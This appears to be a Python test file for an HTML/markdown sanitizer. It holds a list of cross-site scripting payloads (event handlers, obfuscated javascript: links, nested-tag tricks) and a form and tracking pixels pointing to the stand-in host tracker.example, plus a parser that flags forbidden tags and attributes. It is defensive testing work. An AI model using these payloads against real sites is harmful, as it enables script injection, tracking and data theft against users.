"""Hostile text for the sanitizer's tests: payloads that try to run script, load something from outside or
restyle the page, each setting window.__pwned or document.title when it runs, and the rules the page's
DOM must keep whatever they did."""

from __future__ import annotations

from html.parser import HTMLParser

REMOTE = "http://tracker.example/pixel.png"
PAYLOADS = [
    "<script>window.__pwned = 'script'</script>",
    "<img src=x onerror=\"window.__pwned='img onerror'\">",
    "<IMG SRC=x OnError=\"window.__pwned=1\">",
    "<svg onload=\"document.title='pwned'\"><circle r=9 /></svg>",
    "<svg><script>window.__pwned='svg script'</script></svg>",
    "<iframe src=\"javascript:parent.__pwned='iframe'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<object data=\"data:text/html,<script>parent.__pwned=1</script>\"></object><embed src=x.swf>",
    "<a href=\"javascript:window.__pwned='a href'\">click me</a>",
    "<a href=\"java&#x09;script:window.__pwned=1\">tab in the scheme</a>",
    "<a href=\"&#106;avascript:window.__pwned=1\">entity scheme</a>",
    "[markdown link](javascript:window.__pwned='md-link')",
    "[entity link](&#106;avascript:window.__pwned=1)",
    "[escaped link](javascript\\:window.__pwned=1)",
    "[vb](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[ref link][evil]\n\n[evil]: javascript:window.__pwned=1",
    "<javascript:window.__pwned=1>",
    "<style>body{display:none} *{background:url(http://tracker.example/css.png)}</style>",
    "<div style=\"position:fixed;inset:0;background:red\" onclick=\"window.__pwned=1\">overlay</div>",
    "<form action=\"http://tracker.example/steal\"><input name=q><button>Go</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://tracker.example/\">",
    "<base href=\"http://tracker.example/\"><link rel=stylesheet href=\"http://tracker.example/x.css\">",
    f"![tracking pixel]({REMOTE})",
    f"![ref pixel][pix]\n\n[pix]: {REMOTE}",
    f"<img src=\"{REMOTE}\" alt=\"html pixel\">",
    "<img src=\"//tracker.example/protocol-relative.png\">",
    "<video src=\"http://tracker.example/v.mp4\" autoplay></video><audio src=\"http://tracker.example/a.mp3\"></audio>",
    "<details open ontoggle=\"window.__pwned='details'\"><summary>s</summary>x</details>",
    "&lt;script&gt;window.__pwned='entities'&lt;/script&gt; shown as text",
    "<<script>img src=x onerror=window.__pwned=1>",
    "<scr<script>ipt>window.__pwned=1</script>",
    "<!-- a comment --><img src=x onerror=\"window.__pwned=1\"><!-- unterminated <img src=x onerror=alert(1)>",
    "`<img src=x onerror=window.__pwned=1>` in code",
    "```\n<script>window.__pwned='fence'</script>\n```",
    "<div>\n\n<img src=x onerror=\"window.__pwned=1\">\n\n</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
]
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "form", "meta", "base", "link", "svg", "math",
                  "video", "audio", "input", "button", "frame", "frameset", "applet"}
LINK_SCHEMES = ("http:", "https:", "mailto:")


class DomRules(HTMLParser):
    """What rendered HTML breaks: forbidden tags, on*/style attributes, bad links, images from outside."""

    def __init__(self, remote_images: bool = False):
        super().__init__(convert_charrefs=True)
        self.remote_images = remote_images
        self.broken: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.broken.append(f"<{tag}>")
        for name, value in attrs:
            value = "".join(ch for ch in (value or "") if ch > " ").lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "srcset"):
                self.broken.append(f"{tag} {name}=")
            if name == "href" and ":" in value.split("/")[0] and not value.startswith(LINK_SCHEMES):
                self.broken.append(f"{tag} href={value}")
            if name in ("src", "data", "poster") and (":" in value.split("/")[0] or value.startswith("//")):
                if not (self.remote_images and value.startswith(("http:", "https:"))) and not value.startswith("data:image/png"):
                    self.broken.append(f"{tag} {name}={value}")


def broken_rules(rendered_html: str, remote_images: bool = False) -> list[str]:
    rules = DomRules(remote_images)
    rules.feed(rendered_html)
    rules.close()
    return rules.broken
